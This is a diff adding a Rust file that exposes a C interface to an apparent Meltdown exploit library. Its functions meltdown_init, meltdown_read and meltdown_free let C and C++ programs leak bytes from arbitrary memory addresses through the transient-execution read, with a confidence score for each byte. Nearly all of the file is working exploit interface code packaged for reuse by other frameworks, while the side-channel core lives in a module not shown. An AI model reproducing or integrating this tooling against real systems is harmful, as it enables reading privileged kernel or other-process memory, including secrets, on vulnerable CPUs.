@@ -0,0 +1,88 @@
+//! A C interface to the reader, so C and C++ frameworks can link against
+//! this crate's `cdylib` rather than reimplementing the transient read.
+//! `include/meltdown.h` declares it, and documents it for C callers.
+
+use libc::{self, size_t, ssize_t};
+
+use std::io;
+use std::panic::{self, AssertUnwindSafe};
+use std::ptr;
+use std::slice;
+
+use reader::MeltdownReader;
+
+/// The confidence `meltdown_read` gives a byte that didn't leak.
+pub const NOT_LEAKED: u8 = 0xff;
+
+fn set_errno(e: &io::Error) {
+    unsafe { *libc::__errno_location() = e.raw_os_error().unwrap_or(libc::EIO) }
+}
+
+/// Creates a reader with the best suppression strategy this CPU supports,
+/// calibrated for the calling thread's core. Returns null and sets errno if
+/// it can't be created.
+#[no_mangle]
+pub extern "C" fn meltdown_init() -> *mut MeltdownReader {
+    match panic::catch_unwind(MeltdownReader::new) {
+        Ok(Ok(reader)) => Box::into_raw(Box::new(reader)),
+        Ok(Err(e)) => {
+            set_errno(&e);
+            ptr::null_mut()
+        }
+        Err(_) => {
+            set_errno(&io::Error::from_raw_os_error(libc::EIO));
+            ptr::null_mut()
+        }
+    }
+}
+
+/// Leaks `len` bytes from `addr` into `values`, and the confidence in each,
+/// in percent, into `confidence` unless it is null. Bytes that didn't leak
+/// are 0 with a confidence of `NOT_LEAKED`. Returns how many bytes leaked,
+/// or -1 with errno set to EINVAL if `reader` or `values` is null.
+#[no_mangle]
+pub unsafe extern "C" fn meltdown_read(
+    reader: *const MeltdownReader,
+    addr: usize,
+    len: size_t,
+    values: *mut u8,
+    confidence: *mut u8,
+) -> ssize_t {
+    if reader.is_null() || values.is_null() {
+        set_errno(&io::Error::from_raw_os_error(libc::EINVAL));
+        return -1;
+    }
+    let reader = &*reader;
+    let guesses = match panic::catch_unwind(AssertUnwindSafe(|| {
+        reader.guess_range(addr as *const u8, len)
+    })) {
+        Ok(guesses) => guesses,
+        Err(_) => {
+            set_errno(&io::Error::from_raw_os_error(libc::EIO));
+            return -1;
+        }
+    };
+    let values = slice::from_raw_parts_mut(values, len);
+    let mut leaked = 0;
+    for (i, guess) in guesses.iter().enumerate() {
+        values[i] = guess.value.unwrap_or(0);
+        if guess.value.is_some() {
+            leaked += 1;
+        }
+        if !confidence.is_null() {
+            *confidence.add(i) = match guess.value {
+                Some(_) => (guess.confidence() * 100.0) as u8,
+                None => NOT_LEAKED,
+            };
+        }
+    }
+    leaked
+}
+
+/// Frees a reader `meltdown_init` created. Does nothing if `reader` is null.
+#[no_mangle]
+pub unsafe extern "C" fn meltdown_free(reader: *mut MeltdownReader) {
+    if !reader.is_null() {
+        drop(Box::from_raw(reader))
+    }
+}